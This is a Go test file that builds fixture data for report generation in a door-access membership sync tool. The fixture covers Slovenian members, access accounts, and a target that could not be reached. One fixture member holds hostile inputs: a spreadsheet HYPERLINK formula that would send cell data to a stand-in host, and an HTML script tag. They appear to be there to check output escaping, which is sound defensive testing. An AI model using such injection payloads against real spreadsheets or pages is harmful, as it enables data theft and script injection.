package report

import (
	"errors"
	"testing"
	"time"

	"github.com/doorsync/doorsync/internal/member"
	"github.com/doorsync/doorsync/internal/plan"
	"github.com/doorsync/doorsync/internal/target"
)

// hostileFirst and hostileLast are what a member could type into
// Cardskipper's self-service: a spreadsheet formula and HTML.
const (
	hostileFirst = `=HYPERLINK("http://x.example/?d="&A1,"klik")`
	hostileLast  = `Novak | <script>alert(1)</script>`
	hostileEmail = "+38640123456@example.si"
)

func zone(t testing.TB) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Europe/Ljubljana")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

// fixtureInput is a small site on Saturday 2025-11-01 with one item of
// almost every kind, Slovenian names, a hostile member and a target that
// could not be read.
func fixtureInput(t testing.TB, maxRevocations int) plan.Input {
	t.Helper()
	loc := zone(t)
	today := member.NewDate(2025, time.November, 1)
	end := func(y int, m time.Month, d int) time.Time { return member.NewDate(y, m, d).EndOfDay(loc) }
	role := func(start, end member.Date) []member.Role {
		return []member.Role{{OrganisationID: 1, RoleID: 3126, Start: start, End: end}}
	}
	mem := func(id, email, first, last string, roles []member.Role) member.Member {
		e, err := member.NormalizeEmail(email)
		if err != nil {
			t.Fatalf("member %s: %v", id, err)
		}
		return member.Member{ID: id, Email: e, RawEmail: email, FirstName: first, LastName: last, Roles: roles}
	}
	acc := func(id, name, email string, e time.Time) target.Account {
		em, err := member.NormalizeEmail(email)
		if err != nil {
			t.Fatalf("account %s: %v", id, err)
		}
		return target.Account{ID: id, Name: name, Email: em, End: e}
	}
	d := member.NewDate
	permanent := acc("1044", "Marko Kos", "marko.kos@example.si", time.Time{})
	permanent.Permanent = true
	return plan.Input{
		Today: today, Zone: loc, Now: time.Date(2025, time.November, 1, 10, 0, 0, 0, loc),
		Rule:   member.Rule{OrganisationIDs: []int{1}},
		Policy: plan.Policy{Auto: []plan.Kind{plan.Extend, plan.Reactivate}, MaxRevocations: maxRevocations, MaxRevocationPercent: 50},
		Members: []member.Member{
			mem("150001", "Ziga.Ceh@Example.si", "Žiga", "Čeh", role(d(2025, 10, 1), d(2025, 12, 1))),
			mem("150002", "ana.novak@example.si", "Ana", "Novak", role(d(2025, 4, 1), d(2026, 3, 31))),
			mem("150003", "marko.kos@example.si", "Marko", "Kos", role(d(2025, 10, 1), d(2025, 11, 15))),
			mem("150004", "petra.zupan@example.si", "Petra", "Zupan", role(d(2025, 9, 20), d(2025, 10, 20))),
			mem("150005", hostileEmail, hostileFirst, hostileLast, role(d(2025, 10, 1), d(2025, 12, 31))),
			mem("150006", "", "Janez", "Kranjc", role(d(2025, 10, 1), d(2025, 12, 31))),
			mem("150007", "mojca.sustar@example.si", "Mojca", "Šuštar", role(d(2025, 12, 1), d(2025, 11, 1))),
			mem("150008", "luka.horvat@example.si", "Luka", "Horvat", role(d(2025, 11, 1), d(2026, 1, 31))),
		},
		Targets: []plan.TargetState{
			{Info: target.Info{Name: "entrance", System: "hikvision"}, Accounts: []target.Account{
				acc("1042", "Ziga Ceh", "ziga.ceh@example.si", end(2025, 11, 15)),
				acc("1043", "Ana Novak", "ana.novak@example.si", end(2026, 3, 31)),
				permanent,
				acc("1045", "Petra Zupan", "petra.zupan@example.si", end(2025, 12, 31)),
				acc("1046", "Luka Horvat", "luka.horvat@example.si", end(2025, 10, 15)),
				acc("1099", "Trener Tomaz", "", end(2026, 12, 31)),
			}},
			{Info: target.Info{Name: "back-door", System: "hikvision"}, Err: errors.New("dial tcp 10.0.0.21:80: connect: connection refused")},
		},
		// Someone moved Petra's end in iVMS after the sync had set it.
		LastWritten: map[string]map[string]time.Time{"entrance": {"1045": end(2025, 11, 30)}},
	}
}

// fixtureReport is the report every golden file is written from.
func fixtureReport(t testing.TB) Report {
	t.Helper()
	r := FromPlan(plan.Build(fixtureInput(t, 25)), true)
	r.RunID = 42
	return r
}
